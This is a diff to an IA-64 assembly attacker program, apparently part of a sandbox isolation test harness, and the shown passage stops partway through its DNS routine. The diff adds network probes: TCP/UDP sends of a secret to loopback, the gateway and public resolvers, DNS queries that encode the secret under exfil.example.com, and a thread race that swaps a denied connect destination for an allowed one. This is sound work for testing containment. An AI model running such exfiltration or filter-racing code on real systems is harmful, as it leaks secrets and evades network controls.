@@ -17,6 +17,20 @@
 //   kernel-read           the attacker reads the kernel's memory
 //   host-escape PATH      the attacker tries to read PATH, a host file outside its root
 //   outlive               the attacker leaves a process behind that tries to survive umlab
+// Network attacks (the harness listens on the host and reports whatever reaches it):
+//   net-reach PORT SECRET ADDR...   TCP connects and UDP datagrams carrying SECRET to the host's
+//                         127.0.0.1, the gateway 10.0.2.2, public addresses and ADDRs, at PORT
+//   net-bind PORT         listens on PORT (IPv4 and IPv6) for a while; the harness looks for it
+//                         on the host
+//   dns-exfil SECRET PORT ADDR...   DNS queries whose name carries SECRET, to umlab's answerer,
+//                         to the gateway, to a public resolver and to ADDRs at 53 and PORT, and
+//                         to the resolver the C library would ask
+//   toctou DENIED-ADDR DENIED-PORT ALLOWED-ADDR ALLOWED-PORT   connects while a second thread
+//                         (clone with CLONE_VM | CLONE_THREAD) flips the sockaddr between an
+//                         allowed and a denied destination
+// They print attacks.c's lines ("tcp A:P: connected, read ...", "listening on P: ipv4 yes,
+// ipv6 yes", "dns A:P: answered, rcode R, N answers", "toctou: N connected, ..."); addresses
+// are parsed as inet_pton does, except IPv6 with a dotted IPv4 tail (skipped).
 // Victims: victim-pipe SECRET, victim-file SECRET, victim-private SECRET READYFD.
 // Attackers: attack-kernel-read, attack-snoop-pipe, attack-snoop-io, attack-peek PID ADDR LEN,
 // attack-root FILE.
@@ -66,6 +80,16 @@
         .set SYS_nanosleep,     1168
         .set SYS_rt_sigaction,  1177
         .set SYS_process_vm_readv, 1332     // 1024 + 308 (Linux arch/ia64 syscall.tbl)
+        .set SYS_exit,          1025
+        .set SYS_mmap,          1151
+        .set SYS_sched_yield,   1164
+        .set SYS_socket,        1190
+        .set SYS_bind,          1191
+        .set SYS_connect,       1192
+        .set SYS_listen,        1193
+        .set SYS_sendto,        1199
+        .set SYS_recv,          1200
+        .set SYS_setsockopt,    1203
 
         .set SIGHUP, 1
         .set SIGKILL, 9
@@ -76,6 +100,18 @@
         .set MODE_0600, 0x180
         .set PTRACE_PEEKDATA, 2
         .set PTRACE_ATTACH, 16
+        .set AF_INET, 2
+        .set AF_INET6, 10
+        .set SOCK_STREAM, 1
+        .set SOCK_DGRAM, 2
+        .set SOL_SOCKET, 1
+        .set SO_RCVTIMEO, 20
+        .set IPPROTO_IPV6, 41
+        .set IPV6_V6ONLY, 26
+        .set ENETUNREACH, 101
+        // CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM:
+        // what pthread_create asks for, less the TLS and tid words this program does not use
+        .set CLONE_THREAD_FLAGS, 0x50f00
 
         // The kernel arena (KernelArena.swift) and where TT mode maps it on IA-64.
         .set KERNEL_REGION, 0x7ffffffffe000000
@@ -182,6 +218,10 @@ outfd:  data8 1
 tsec:   data8 1, 0                      // nanosleep: 1 s
 tdeci:  data8 0, 100000000              // nanosleep: 100 ms
 sigign: data8 1, 0, 0                   // struct sigaction { SIG_IGN, flags 0, mask 0 }
+tv300:  data8 0, 300000                 // SO_RCVTIMEO: 300 ms
+one:    data4 1, 0                      // an int option's 1
+// What net-reach tries before the addresses it is given (attacks.c's list).
+reach_list: data8 s_lo4, s_lo6, s_gateway, s_dns_addr, s_public1, s_public2, s_public3, s_public6, 0
 
         .section .rodata
 s_attacks:      .asciz "attacks"
@@ -200,6 +240,30 @@ s_a_peek:       .asciz "attack-peek"
 s_a_root:       .asciz "attack-root"
 s_host_escape:  .asciz "host-escape"
 s_outlive:      .asciz "outlive"
+s_net_reach:    .asciz "net-reach"
+s_net_bind:     .asciz "net-bind"
+s_dns_exfil:    .asciz "dns-exfil"
+s_toctou:       .asciz "toctou"
+s_lo4:          .asciz "127.0.0.1"
+s_lo6:          .asciz "::1"
+s_gateway:      .asciz "10.0.2.2"
+s_dns_addr:     .asciz "10.0.2.3"
+s_public1:      .asciz "8.8.8.8"
+s_public2:      .asciz "1.1.1.1"
+s_public3:      .asciz "192.0.2.1"
+s_public6:      .asciz "2001:4860:4860::8888"
+s_any4:         .asciz "0.0.0.0"
+s_any6:         .asciz "::"
+s_tcp:          .asciz "tcp "
+s_udp:          .asciz "udp "
+s_dns:          .asciz "dns "
+s_sent:         .asciz ": sent\n"
+s_colon:        .asciz ": "
+s_yes:          .asciz "yes"
+s_no:           .asciz "no"
+s_resolv_conf:  .asciz "/etc/resolv.conf"
+s_nameserver:   .asciz "nameserver"
+s_exfil_suffix: .asciz ".exfil.example.com"
 s_diary:        .asciz "/tmp/victim-diary"
 s_root_only:    .asciz "/tmp/root-only"
 s_escape:       .asciz "/tmp/escape"
@@ -237,7 +301,9 @@ s_succeeded:    .asciz "succeeded"
         .align 8
 errtab: data8 1, e1, 2, e2, 3, e3, 5, e5, 9, e9, 10, e10, 11, e11, 12, e12, 13, e13, 14, e14
         data8 16, e16, 17, e17, 18, e18, 20, e20, 21, e21, 22, e22, 24, e24, 25, e25, 30, e30
-        data8 36, e36, 38, e38, 40, e40, 95, e95, 0, 0
+        data8 36, e36, 38, e38, 40, e40, 95, e95, 4, e4, 32, e32, 90, e90, 93, e93, 97, e97
+        data8 98, e98, 99, e99, 100, e100, 101, e101, 104, e104, 106, e106, 107, e107
+        data8 110, e110, 111, e111, 113, e113, 115, e115, 0, 0
 e1:  .asciz "Operation not permitted"
 e2:  .asciz "No such file or directory"
 e3:  .asciz "No such process"
@@ -261,6 +327,22 @@ e36: .asciz "File name too long"
 e38: .asciz "Function not implemented"
 e40: .asciz "Too many levels of symbolic links"
 e95: .asciz "Operation not supported"
+e4:  .asciz "Interrupted system call"
+e32: .asciz "Broken pipe"
+e90: .asciz "Message too long"
+e93: .asciz "Protocol not supported"
+e97: .asciz "Address family not supported by protocol"
+e98: .asciz "Address already in use"
+e99: .asciz "Cannot assign requested address"
+e100: .asciz "Network is down"
+e101: .asciz "Network is unreachable"
+e104: .asciz "Connection reset by peer"
+e106: .asciz "Transport endpoint is already connected"
+e107: .asciz "Transport endpoint is not connected"
+e110: .asciz "Connection timed out"
+e111: .asciz "Connection refused"
+e113: .asciz "No route to host"
+e115: .asciz "Operation now in progress"
 
         .bss
         .align 16
@@ -283,6 +365,17 @@ block:      .skip 1024
 outbuf:     .skip OUTBUF_SIZE
 pathbuf:    .skip PATH_MAX + 16
 copybuf:    .skip COPY_MAX
+sabuf:      .skip 32                    // a sockaddr_in or sockaddr_in6
+v6words:    .skip 64                    // parse_ipv6's eight groups
+race_addr:  .skip 32                    // toctou: what connect reads,
+race_allowed: .skip 32                  // and the two values it takes
+race_denied: .skip 32
+race_done:  .skip 8
+flipper_done: .skip 8
+qlen:       .skip 8
+qbuf:       .skip 512                   // a DNS query
+namebuf:    .skip 256
+dnsreply:   .skip 512
 
         .text
 
@@ -1485,6 +1578,1103 @@ fill:
         ;;
         .endp fill
 
+// ---- network ---------------------------------------------------------------------------------
+
+// parse_ipv4(s, out) -> r8 = 1 when s is four decimal parts of 0-255 joined by dots (its bytes
+// at out), else 0 (out may be partly written)
+        .proc parse_ipv4
+parse_ipv4:
+        alloc r2 = ar.pfs, 2, 0, 0, 0
+        mov r14 = in0                   // p
+        mov r16 = in1                   // out
+        mov r17 = 0                     // parts
+        mov r8 = 0
+        ;;
+.Lp4_part:
+        mov r18 = 0                     // value
+        mov r19 = 0                     // digits
+        ;;
+.Lp4_digit:
+        ld1 r20 = [r14]
+        ;;
+        adds r21 = -48, r20
+        ;;
+        cmp.ltu p6, p7 = 9, r21         // p7: a digit
+        ;;
+(p7)    shladd r22 = r18, 2, r18        // 5v
+(p7)    adds r19 = 1, r19
+(p7)    adds r14 = 1, r14
+        ;;
+(p7)    add r22 = r22, r22              // 10v
+        ;;
+(p7)    add r18 = r22, r21
+(p7)    br.cond.sptk .Lp4_digit
+        ;;
+        mov r24 = 255
+        cmp.eq p6, p0 = 0, r19          // no digits
+        cmp.ltu p7, p0 = 3, r19         // more than three
+        ;;
+        cmp.ltu p8, p0 = r24, r18       // too large
+        ;;
+(p6)    br.ret.dpnt.many b0
+(p7)    br.ret.dpnt.many b0
+(p8)    br.ret.dpnt.many b0
+        ;;
+        st1 [r16] = r18, 1
+        adds r17 = 1, r17
+        ;;
+        cmp.eq p7, p8 = 4, r17
+        ;;
+(p7)    cmp.eq.unc p9, p0 = 0, r20      // the fourth part ends the text
+(p8)    cmp.eq.unc p10, p0 = '.', r20   // the others end with a dot
+        ;;
+(p9)    mov r8 = 1
+(p9)    br.ret.sptk.many b0
+(p10)   adds r14 = 1, r14
+(p10)   br.cond.sptk .Lp4_part
+        ;;
+        br.ret.sptk.many b0
+        ;;
+        .endp parse_ipv4
+
+// parse_ipv6(s, out) -> r8 = 1 when s is an IPv6 address in hex groups with at most one "::"
+// (its 16 bytes at out), else 0. The dotted IPv4 tail of inet_pton's forms (::ffff:1.2.3.4)
+// is not taken: such an address is skipped, as attacks.c skips what inet_pton refuses.
+        .proc parse_ipv6
+parse_ipv6:
+        alloc r2 = ar.pfs, 2, 0, 0, 0
+        movl r30 = v6words
+        mov r14 = in0                   // p
+        mov r17 = 0                     // groups
+        mov r28 = -1                    // where "::" stands, in groups
+        mov r8 = 0
+        ;;
+        mov r18 = r30
+        mov r19 = 8
+        ;;
+.Lp6_zero:
+        st8 [r18] = r0, 8
+        adds r19 = -1, r19
+        ;;
+        cmp.ne p6, p0 = 0, r19
+        ;;
+(p6)    br.cond.sptk .Lp6_zero
+        ;;
+        ld1 r20 = [r14]
+        adds r15 = 1, r14
+        ;;
+        ld1 r21 = [r15]
+        cmp.eq p6, p0 = ':', r20
+        ;;
+(p6)    cmp.ne.unc p7, p0 = ':', r21
+        ;;
+(p7)    br.ret.dpnt.many b0             // a lone leading ':'
+(p6)    mov r28 = 0
+(p6)    adds r14 = 2, r14
+        ;;
+(p6)    ld1 r20 = [r14]
+        ;;
+(p6)    cmp.eq.unc p8, p0 = 0, r20
+        ;;
+(p8)    br.cond.dpnt .Lp6_done          // "::"
+        ;;
+.Lp6_group:
+        mov r18 = 0                     // value
+        mov r19 = 0                     // digits
+        ;;
+.Lp6_hex:
+        ld1 r20 = [r14]
+        mov r23 = 16                    // not a hex digit
+        ;;
+        adds r21 = -48, r20             // '0'-'9'
+        or r22 = 0x20, r20
+        ;;
+        adds r22 = -97, r22             // 'a'-'f' (either case) -> 0-5
+        cmp.ltu p6, p7 = 9, r21
+        ;;
+        cmp.ltu p8, p9 = 5, r22
+(p7)    mov r23 = r21
+        ;;
+(p9)    adds r23 = 10, r22
+        ;;
+        cmp.ltu p10, p11 = 15, r23      // p11: a hex digit
+        ;;
+(p11)   shl r18 = r18, 4
+(p11)   adds r19 = 1, r19
+(p11)   adds r14 = 1, r14
+        ;;
+(p11)   or r18 = r18, r23
+(p11)   br.cond.sptk .Lp6_hex
+        ;;
+        cmp.eq p6, p0 = 0, r19          // no digits
+        cmp.ltu p7, p0 = 4, r19         // more than four
+        cmp.ltu p8, p0 = 7, r17         // a ninth group
+        ;;
+(p6)    br.ret.dpnt.many b0
+(p7)    br.ret.dpnt.many b0
+(p8)    br.ret.dpnt.many b0
+        ;;
+        shladd r24 = r17, 3, r30
+        adds r17 = 1, r17
+        ;;
+        st8 [r24] = r18
+        cmp.eq p6, p0 = 0, r20          // the end
+        cmp.eq p7, p0 = ':', r20
+        ;;
+(p6)    br.cond.dpnt .Lp6_done
+(p7)    br.cond.sptk .Lp6_colon
+        br.ret.sptk.many b0             // anything else
+        ;;
+.Lp6_colon:
+        adds r14 = 1, r14
+        ;;
+        ld1 r20 = [r14]
+        ;;
+        cmp.ne p6, p0 = ':', r20
+        ;;
+(p6)    br.cond.sptk .Lp6_group         // one ':': the next group
+        cmp.lt p7, p0 = -1, r28         // a second "::"
+        ;;
+(p7)    br.ret.dpnt.many b0
+        mov r28 = r17
+        adds r14 = 1, r14
+        ;;
+        ld1 r20 = [r14]
+        ;;
+        cmp.eq p6, p0 = 0, r20
+        ;;
+(p6)    br.cond.dpnt .Lp6_done
+        br.cond.sptk .Lp6_group
+        ;;
+.Lp6_done:
+        // without "::" eight groups; with it at most seven, and the groups after it move to
+        // the end
+        cmp.lt p6, p7 = r28, r0
+        ;;
+(p6)    cmp.ne.unc p8, p0 = 8, r17
+(p7)    cmp.eq.unc p9, p0 = 8, r17
+        ;;
+(p8)    br.ret.dpnt.many b0
+(p9)    br.ret.dpnt.many b0
+(p6)    br.cond.dpnt .Lp6_store
+        mov r18 = r17                   // k: one past the group to move
+        mov r19 = 8                     // j: one past where it goes
+        ;;
+.Lp6_move:
+        cmp.lt p7, p6 = r28, r18
+        ;;
+(p6)    br.cond.dpnt .Lp6_store
+        adds r18 = -1, r18
+        adds r19 = -1, r19
+        ;;
+        shladd r21 = r18, 3, r30
+        shladd r22 = r19, 3, r30
+        ;;
+        ld8 r23 = [r21]
+        ;;
+        st8 [r21] = r0
+        ;;
+        st8 [r22] = r23
+        br.cond.sptk .Lp6_move
+        ;;
+.Lp6_store:
+        mov r18 = 0
+        mov r14 = in1
+        ;;
+.Lp6_out:                               // the eight groups in network order
+        shladd r21 = r18, 3, r30
+        ;;
+        ld8 r22 = [r21]
+        adds r18 = 1, r18
+        ;;
+        extr.u r23 = r22, 8, 8
+        ;;
+        st1 [r14] = r23, 1
+        ;;
+        st1 [r14] = r22, 1
+        cmp.ltu p7, p6 = 7, r18
+        ;;
+(p6)    br.cond.sptk .Lp6_out
+        ;;
+        mov r8 = 1
+        br.ret.sptk.many b0
+        ;;
+        .endp parse_ipv6
+
+// sockaddr_for(text, port, sa) -> r8 = AF_INET or AF_INET6 with sa (32 bytes) filled as
+// sockaddr_in / sockaddr_in6 and r9 = its length; r8 = -1 when text is no address
+        .proc sockaddr_for
+sockaddr_for:
+        ENTER 3, 3, 2
+        mov r14 = in2
+        ;;
+        st8 [r14] = r0, 8
+        ;;
+        st8 [r14] = r0, 8
+        ;;
+        st8 [r14] = r0, 8
+        ;;
+        st8 [r14] = r0
+        mov out0 = in0
+        adds out1 = 4, in2              // sin_addr
+        CALL parse_ipv4
+        cmp.ne p6, p0 = 0, r8
+        ;;
+(p6)    br.cond.sptk .Lsa_v4
+        adds r14 = 4, in2
+        ;;
+        st4 [r14] = r0                  // sin6_flowinfo, after a partial IPv4 parse
+        mov out0 = in0
+        adds out1 = 8, in2              // sin6_addr
+        CALL parse_ipv6
+        cmp.eq p6, p0 = 0, r8
+        ;;
+(p6)    mov r8 = -1
+(p6)    br.cond.dpnt .Lsa_ret
+        mov r14 = AF_INET6
+        mov r9 = 28
+        br.cond.sptk .Lsa_fill
+        ;;
+.Lsa_v4:
+        mov r14 = AF_INET
+        mov r9 = 16
+        ;;
+.Lsa_fill:
+        adds r16 = 2, in2
+        extr.u r17 = in1, 8, 8
+        mov r8 = r14
+        ;;
+        st2 [in2] = r14                 // the family, the port in network order
+        st1 [r16] = r17, 1
+        ;;
+        st1 [r16] = in1
+.Lsa_ret:
+        LEAVE
+        .endp sockaddr_for
+
+// out_dest(prefix, text, port): "PREFIX TEXT:PORT"
+        .proc out_dest
+out_dest:
+        ENTER 3, 2, 1
+        PUTR in0
+        PUTR in1
+        PUTC ':'
+        PUTN in2
+        LEAVE
+        .endp out_dest
+
+// reach(text, port, secret): one TCP connect and one UDP datagram carrying secret to
+// text:port; prints what each got
+        .proc reach
+reach:
+        ENTER 3, 6, 6
+        mov out0 = in0
+        mov out1 = in1
+        movl out2 = sabuf
+        CALL sockaddr_for
+        cmp.lt p6, p0 = r8, r0
+        mov loc2 = r8                   // family
+        mov loc3 = r9                   // length
+        ;;
+(p6)    br.cond.dpnt .Lre_done
+        mov out0 = loc2
+        mov out1 = SOCK_STREAM
+        mov out2 = 0
+        SYSCALL SYS_socket
+        cmp.ne p6, p0 = 0, r10
+        mov loc4 = r8
+        ;;
+(p6)    br.cond.dpnt .Lre_udp
+        mov out0 = loc4
+        movl out1 = sabuf
+        mov out2 = loc3
+        SYSCALL SYS_connect
+        cmp.ne p6, p0 = 0, r10
+        mov loc5 = r8
+        ;;
+(p6)    br.cond.dpnt .Lre_tcp_error
+        mov out0 = in2
+        CALL strlen
+        mov out0 = loc4
+        mov out1 = in2
+        mov out2 = r8
+        SYSCALL SYS_write
+        mov out0 = loc4
+        movl out1 = readbuf
+        mov out2 = 255
+        SYSCALL SYS_read
+        cmp.ne p6, p0 = 0, r10
+        movl r14 = readbuf
+        mov r16 = r8
+        ;;
+(p6)    mov r16 = 0
+        ;;
+        add r14 = r14, r16
+        ;;
+        st1 [r14] = r0
+        movl out0 = s_tcp
+        mov out1 = in0
+        mov out2 = in1
+        CALL out_dest
+        PUTS ": connected, read "
+        PUTC 34
+        movl out0 = readbuf
+        CALL out_str
+        movl out0 = s_q_close
+        CALL out_str
+        br.cond.sptk .Lre_close
+        ;;
+.Lre_tcp_error:
+        movl out0 = s_tcp
+        mov out1 = in0
+        mov out2 = in1
+        CALL out_dest
+        PUTS ": "
+        PUTE loc5
+        PUTC 10
+.Lre_close:
+        mov out0 = loc4
+        SYSCALL SYS_close
+.Lre_udp:
+        mov out0 = loc2
+        mov out1 = SOCK_DGRAM
+        mov out2 = 0
+        SYSCALL SYS_socket
+        cmp.ne p6, p0 = 0, r10
+        mov loc4 = r8
+        ;;
+(p6)    br.cond.dpnt .Lre_done
+        mov out0 = in2
+        CALL strlen
+        mov out0 = loc4
+        mov out1 = in2
+        mov out2 = r8
+        mov out3 = 0
+        movl out4 = sabuf
+        mov out5 = loc3
+        SYSCALL SYS_sendto
+        cmp.ne p6, p7 = 0, r10
+        ;;
+(p6)    mov loc5 = r8                   // the error
+(p7)    mov loc5 = 0
+        movl out0 = s_udp
+        mov out1 = in0
+        mov out2 = in1
+        CALL out_dest
+        cmp.eq p6, p7 = 0, loc5
+        ;;
+(p6)    movl out0 = s_sent
+(p7)    movl out0 = s_colon
+        ;;
+        CALL out_str
+        cmp.ne p6, p0 = 0, loc5
+        mov out0 = loc5
+        ;;
+(p6)    br.call.sptk.many b0 = out_err
+        ;;
+        cmp.ne p6, p0 = 0, loc5         // (p6 does not live across a call)
+        mov out0 = 10
+        ;;
+(p6)    br.call.sptk.many b0 = out_char
+        ;;
+        mov out0 = loc4
+        SYSCALL SYS_close
+.Lre_done:
+        LEAVE
+        .endp reach
+
+// net_reach(port, secret, extra) -> r8 = 0: reach() the host's loopback, the gateway and the
+// DNS address of the guest's network, public addresses, and the NULL-ended list extra
+        .proc net_reach
+net_reach:
+        ENTER 3, 4, 3
+        movl loc2 = reach_list
+        ;;
+.Lnr_fixed:
+        ld8 loc3 = [loc2], 8
+        ;;
+        cmp.eq p6, p0 = 0, loc3
+        ;;
+(p6)    br.cond.dpnt .Lnr_extra
+        mov out0 = loc3
+        mov out1 = in0
+        mov out2 = in1
+        CALL reach
+        br.cond.sptk .Lnr_fixed
+        ;;
+.Lnr_extra:
+        mov loc2 = in2
+        ;;
+.Lnr_next:
+        ld8 loc3 = [loc2], 8
+        ;;
+        cmp.eq p6, p0 = 0, loc3
+        ;;
+(p6)    br.cond.dpnt .Lnr_done
+        mov out0 = loc3
+        mov out1 = in0
+        mov out2 = in1
+        CALL reach
+        br.cond.sptk .Lnr_next
+        ;;
+.Lnr_done:
+        mov r8 = 0
+        LEAVE
+        .endp net_reach
+
+// bind_listen(fd, text, port) -> r8 = 1 when fd binds to text:port and listens
+        .proc bind_listen
+bind_listen:
+        ENTER 3, 3, 3
+        mov out0 = in1
+        mov out1 = in2
+        movl out2 = sabuf
+        CALL sockaddr_for
+        mov loc2 = r9
+        mov out0 = in0
+        movl out1 = sabuf
+        ;;
+        mov out2 = loc2
+        SYSCALL SYS_bind
+        cmp.ne p6, p0 = 0, r10
+        mov r8 = 0
+        ;;
+(p6)    br.cond.dpnt .Lbl_ret
+        mov out0 = in0
+        mov out1 = 8
+        SYSCALL SYS_listen
+        cmp.eq p6, p7 = 0, r10
+        ;;
+(p6)    mov r8 = 1
+(p7)    mov r8 = 0
+.Lbl_ret:
+        LEAVE
+        .endp bind_listen
+
+// net_bind(port) -> r8 = 0: listens on 0.0.0.0:port and [::]:port (IPV6_V6ONLY) for 3 s
+        .proc net_bind
+net_bind:
+        ENTER 1, 6, 5
+        mov out0 = AF_INET
+        mov out1 = SOCK_STREAM
+        mov out2 = 0
+        SYSCALL SYS_socket
+        mov loc2 = r8
+        mov out0 = AF_INET6
+        mov out1 = SOCK_STREAM
+        mov out2 = 0
+        SYSCALL SYS_socket
+        mov loc3 = r8
+        mov out0 = r8
+        mov out1 = IPPROTO_IPV6
+        mov out2 = IPV6_V6ONLY
+        movl out3 = one
+        mov out4 = 4
+        SYSCALL SYS_setsockopt
+        mov out0 = loc2
+        movl out1 = s_any4
+        mov out2 = in0
+        CALL bind_listen
+        mov loc4 = r8
+        mov out0 = loc3
+        movl out1 = s_any6
+        mov out2 = in0
+        CALL bind_listen
+        mov loc5 = r8
+        PUTS "listening on "
+        PUTN in0
+        PUTS ": ipv4 "
+        cmp.ne p6, p7 = 0, loc4
+        ;;
+(p6)    movl out0 = s_yes
+(p7)    movl out0 = s_no
+        CALL out_str
+        PUTS ", ipv6 "
+        cmp.ne p6, p7 = 0, loc5
+        ;;
+(p6)    movl out0 = s_yes
+(p7)    movl out0 = s_no
+        CALL out_str
+        PUTC 10
+        mov loc4 = 30                   // stay listening while the harness looks from the host
+        ;;
+.Lnb_sleep:
+        movl out0 = tdeci
+        mov out1 = 0
+        SYSCALL SYS_nanosleep
+        adds loc4 = -1, loc4
+        ;;
+        cmp.ne p6, p0 = 0, loc4
+        ;;
+(p6)    br.cond.sptk .Lnb_sleep
+        ;;
+        mov r8 = 0
+        LEAVE
+        .endp net_bind
+
+// dns_query(out, name) -> r8 = length: a DNS query (id 0x1234, RD set) for name, type A,
+// class IN
+        .proc dns_query
+dns_query:
+        alloc r2 = ar.pfs, 2, 0, 0, 0
+        movl r14 = 0x0000010000013412   // 12 34 01 00 00 01 00 00: id, flags, one question
+        adds r16 = 8, in0
+        ;;
+        st8 [in0] = r14
+        st4 [r16] = r0                  // no answers, authorities, additionals
+        adds r16 = 12, in0              // out cursor
+        mov r15 = in1                   // the label
+        ;;
+.Ldq_label:
+        ld1 r17 = [r15]
+        mov r18 = r15
+        ;;
+        cmp.eq p6, p0 = 0, r17
+        ;;
+(p6)    br.cond.dpnt .Ldq_end
+        ;;
+.Ldq_scan:                              // to the label's dot or the end
+        ld1 r19 = [r18]
+        ;;
+        cmp.eq p6, p0 = 0, r19
+        cmp.eq p7, p0 = '.', r19
+        ;;
+(p6)    br.cond.dpnt .Ldq_copy
+(p7)    br.cond.dpnt .Ldq_copy
+        adds r18 = 1, r18
+        br.cond.sptk .Ldq_scan
+        ;;
+.Ldq_copy:
+        sub r20 = r18, r15
+        ;;
+        st1 [r16] = r20, 1
+        ;;
+.Ldq_byte:
+        cmp.ltu p6, p0 = r15, r18
+        ;;
+(p6)    ld1 r21 = [r15], 1
+        ;;
+(p6)    st1 [r16] = r21, 1
+(p6)    br.cond.sptk .Ldq_byte
+        ;;
+        cmp.eq p7, p0 = '.', r19
+        ;;
+(p7)    adds r15 = 1, r15
+        br.cond.sptk .Ldq_label
+        ;;
+.Ldq_end:
+        mov r17 = 1
+        st1 [r16] = r0, 1               // the root
+        ;;
+        st1 [r16] = r0, 1               // type A
+        ;;
+        st1 [r16] = r17, 1
+        ;;
+        st1 [r16] = r0, 1               // class IN
+        ;;
+        st1 [r16] = r17, 1
+        ;;
+        sub r8 = r16, in0
+        br.ret.sptk.many b0
+        ;;
+        .endp dns_query
+
+// ask(text, port, query, length): sends the query to text:port over UDP and waits 300 ms for
+// an answer; "dns TEXT:PORT: answered, rcode R, N answers" / "no answer" / the send's error
+        .proc ask
+ask:
+        ENTER 4, 6, 6
+        mov out0 = in0
+        mov out1 = in1
+        movl out2 = sabuf
+        CALL sockaddr_for
+        cmp.lt p6, p0 = r8, r0
+        mov loc2 = r8
+        mov loc3 = r9
+        ;;
+(p6)    br.cond.dpnt .Lask_ret
+        mov out0 = loc2
+        mov out1 = SOCK_DGRAM
+        mov out2 = 0
+        SYSCALL SYS_socket
+        cmp.ne p6, p0 = 0, r10
+        mov loc4 = r8
+        ;;
+(p6)    br.cond.dpnt .Lask_ret
+        mov out0 = loc4
+        mov out1 = in2
+        mov out2 = in3
+        mov out3 = 0
+        movl out4 = sabuf
+        mov out5 = loc3
+        SYSCALL SYS_sendto
+        cmp.eq p6, p0 = 0, r10
+        mov loc5 = r8
+        ;;
+(p6)    br.cond.sptk .Lask_wait
+        movl out0 = s_dns
+        mov out1 = in0
+        mov out2 = in1
+        CALL out_dest
+        PUTS ": "
+        PUTE loc5
+        PUTC 10
+        br.cond.sptk .Lask_close
+        ;;
+.Lask_wait:
+        mov out0 = loc4
+        mov out1 = SOL_SOCKET
+        mov out2 = SO_RCVTIMEO
+        movl out3 = tv300
+        mov out4 = 16
+        SYSCALL SYS_setsockopt
+        mov out0 = loc4
+        movl out1 = dnsreply
+        mov out2 = 512
+        mov out3 = 0
+        SYSCALL SYS_recv
+        cmp.ne p6, p0 = 0, r10
+        mov loc5 = r8                   // length
+        ;;
+(p6)    mov loc5 = 0
+        movl out0 = s_dns
+        mov out1 = in0
+        mov out2 = in1
+        CALL out_dest
+        cmp.lt p6, p0 = 3, loc5
+        ;;
+(p6)    br.cond.sptk .Lask_answered
+        PUTS ": no answer\n"
+        br.cond.sptk .Lask_close
+        ;;
+.Lask_answered:
+        movl r14 = dnsreply + 3
+        ;;
+        ld1 r14 = [r14]
+        ;;
+        and loc2 = 15, r14              // rcode
+        PUTS ": answered, rcode "
+        PUTN loc2
+        movl r14 = dnsreply + 7
+        mov loc2 = 0
+        cmp.lt p6, p0 = 7, loc5
+        ;;
+(p6)    ld1 loc2 = [r14]                // answers (the low byte of ANCOUNT)
+        PUTS ", "
+        PUTN loc2
+        PUTS " answers\n"
+.Lask_close:
+        mov out0 = loc4
+        SYSCALL SYS_close
+.Lask_ret:
+        LEAVE
+        .endp ask
+
+// prefixed(s, prefix) -> r8 = 1 when s starts with prefix
+        .proc prefixed
+prefixed:
+        alloc r2 = ar.pfs, 2, 0, 0, 0
+        mov r14 = in0
+        mov r16 = in1
+        mov r8 = 1
+        ;;
+.Lpx_loop:
+        ld1 r17 = [r14], 1
+        ld1 r18 = [r16], 1
+        ;;
+        cmp.eq p6, p0 = 0, r18          // the prefix ended: a match
+        cmp.ne p7, p0 = r17, r18
+        ;;
+(p6)    br.ret.sptk.many b0
+(p7)    mov r8 = 0
+(p7)    br.ret.sptk.many b0
+        br.cond.sptk .Lpx_loop
+        ;;
+        .endp prefixed
+
+// nameserver() -> r8 = the first "nameserver" address of /etc/resolv.conf (NUL-ended, in
+// pathbuf), or 0
+        .proc nameserver
+nameserver:
+        ENTER 0, 4, 3
+        movl out0 = s_resolv_conf
+        mov out1 = O_RDONLY
+        mov out2 = 0
+        SYSCALL SYS_open
+        cmp.ne p6, p0 = 0, r10
+        mov loc2 = r8
+        mov r8 = 0
+        ;;
+(p6)    br.cond.dpnt .Lns_ret
+        mov out0 = loc2
+        movl out1 = pathbuf
+        movl out2 = PATH_MAX - 1
+        SYSCALL SYS_read
+        cmp.ne p6, p0 = 0, r10
+        movl loc3 = pathbuf
+        mov r16 = r8
+        ;;
+(p6)    mov r16 = 0
+        ;;
+        add r14 = loc3, r16
+        ;;
+        st1 [r14] = r0
+        mov out0 = loc2
+        SYSCALL SYS_close
+.Lns_find:
+        ld1 r14 = [loc3]
+        ;;
+        cmp.eq p6, p0 = 0, r14
+        ;;
+(p6)    mov r8 = 0
+(p6)    br.cond.dpnt .Lns_ret
+        mov out0 = loc3
+        movl out1 = s_nameserver
+        CALL prefixed
+        cmp.ne p6, p0 = 0, r8
+        ;;
+(p6)    br.cond.dpnt .Lns_found
+        adds loc3 = 1, loc3
+        br.cond.sptk .Lns_find
+        ;;
+.Lns_found:
+        adds loc3 = 10, loc3            // after "nameserver"
+        ;;
+.Lns_space:
+        ld1 r14 = [loc3]
+        ;;
+        cmp.eq p6, p0 = ' ', r14
+        cmp.eq p7, p0 = 9, r14
+        ;;
+(p6)    adds loc3 = 1, loc3
+(p6)    br.cond.sptk .Lns_space
+(p7)    adds loc3 = 1, loc3
+(p7)    br.cond.sptk .Lns_space
+        ;;
+        mov r8 = loc3
+        mov r16 = loc3
+        ;;
+.Lns_token:
+        ld1 r14 = [r16]
+        ;;
+        cmp.ltu p6, p0 = ' ', r14       // a printable byte: part of the address
+        ;;
+(p6)    adds r16 = 1, r16
+(p6)    br.cond.sptk .Lns_token
+        ;;
+        st1 [r16] = r0
+.Lns_ret:
+        LEAVE
+        .endp nameserver
+
+// ask_all(text, port): ask(text, port) with the query in qbuf (length in qlen)
+        .proc ask_all
+ask_all:
+        ENTER 2, 2, 4
+        movl r14 = qlen
+        ;;
+        ld8 out3 = [r14]
+        mov out0 = in0
+        mov out1 = in1
+        movl out2 = qbuf
+        CALL ask
+        LEAVE
+        .endp ask_all
+
+// dns_exfil(secret, port, extra) -> r8 = 0: DNS queries for SECRET.exfil.example.com to
+// umlab's answerer, the gateway, the host's loopback, a public resolver, and each of extra at
+// 53 and port; then where the C library's lookup (attacks.c's getaddrinfo) sends it: the
+// nameserver of /etc/resolv.conf, or 127.0.0.1 without one (this program has no C library)
+        .proc dns_exfil
+dns_exfil:
+        ENTER 3, 4, 2
+        // the name: at most 60 bytes of the secret, then the suffix
+        movl r14 = namebuf
+        mov r16 = in0
+        mov r17 = 60
+        ;;
+.Lde_copy:
+        ld1 r18 = [r16], 1
+        ;;
+        cmp.ne p6, p0 = 0, r18
+        ;;
+(p6)    cmp.ne p6, p0 = 0, r17
+        ;;
+(p6)    st1 [r14] = r18, 1
+(p6)    adds r17 = -1, r17
